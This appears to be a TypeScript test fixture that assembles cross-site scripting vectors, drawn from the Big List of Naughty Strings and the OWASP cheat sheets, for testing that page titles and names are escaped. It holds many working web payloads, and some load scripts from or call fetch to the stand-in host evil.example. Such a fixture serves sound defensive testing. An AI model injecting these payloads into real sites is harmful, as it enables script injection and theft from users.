import naughty from 'big-list-of-naughty-strings/blns.json' with { type: 'json' };

/** Characters of a title or a name, the shortest of the fields that the vectors go into. */
const MAX_LINE = 200;

/**
 * Vectors that the list lacks, after the OWASP filter evasion and HTML5 security cheat sheets: other
 * elements and events, and ways out of the places where the views put text. Where they run they call
 * `alert`, and where they load something they load it from another host.
 */
const MORE: readonly string[] = [
  '</title><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</script><script>alert(1)</script><script>',
  '<!--<script>alert(1)</script>-->',
  '--!><script>alert(1)</script>',
  ']]><script>alert(1)</script>',
  '</summary></details><script>alert(1)</script>',
  '</option></select><img src=x onerror=alert(1)>',
  '</table></section></main><svg onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set onbegin=alert(1) attributename=x>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1)>#x">',
  '<svg><style><img src=x onerror=alert(1)></style>',
  '<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">x</math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video src=x onerror=alert(1)></video>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<iframe src="javascript:parent.alert(1)"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form><button formaction="javascript:alert(1)">x</button></form>',
  '<form id=x></form><button form=x formaction="javascript:alert(1)">x</button>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>*{display:none!important}</style>',
  '<img src="https://evil.example/pixel.gif">',
  '<script src="https://evil.example/x.js"></script>',
  '<script type=module>import "https://evil.example/x.js"</script>',
  '<script>import("https://evil.example/x.js")</script>',
  '<img src=x:x onerror="fetch(`https://evil.example/`)">',
  '<a href="javascript:alert(1)" autofocus onfocus=alert(1)>x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<div style="position:fixed;inset:0;width:9999px;height:9999px">x</div>',
  '<x onclick=alert(1) contenteditable autofocus onfocus=alert(1)>x',
  '<img name=body><img name=getElementById>',
  '" autofocus onfocus=alert(1) x="',
  "' autofocus onfocus=alert(1) x='",
  '` onmouseover=alert(1) x=`',
  '"style="position:fixed;width:9999px',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '<%= alert(1) %>',
  '[x](javascript:alert(1))',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '&lt;img src=x onerror=alert(1)&gt;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '"><svg onload=alert(1)><"',
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert() )//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>',
  'W'.repeat(MAX_LINE),
  `x${'🏳️‍🌈'.repeat(30)}`,
];

// oxlint-disable-next-line no-control-regex -- an article refuses them, which is tested elsewhere
const CONTROLS = /[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/u;

/** Puts short strings into one line with others, as long as a title may be. */
function pack(strings: readonly string[]): string[] {
  const lines: string[] = [];
  for (const text of strings) {
    const last = lines.at(-1);
    if (last !== undefined && last.length + 1 + text.length <= MAX_LINE) {
      lines[lines.length - 1] = `${last} ${text}`;
    } else lines.push(text);
  }
  return lines;
}

const injections = naughty.filter(
  (text) =>
    /[<>]|script/i.test(text) &&
    text.length <= MAX_LINE &&
    text.trim() !== '' &&
    !CONTROLS.test(text),
);

/** The vectors, several a line: the injections of the Big List of Naughty Strings, and more. */
export const VECTORS: readonly string[] = pack([...MORE, ...injections]);
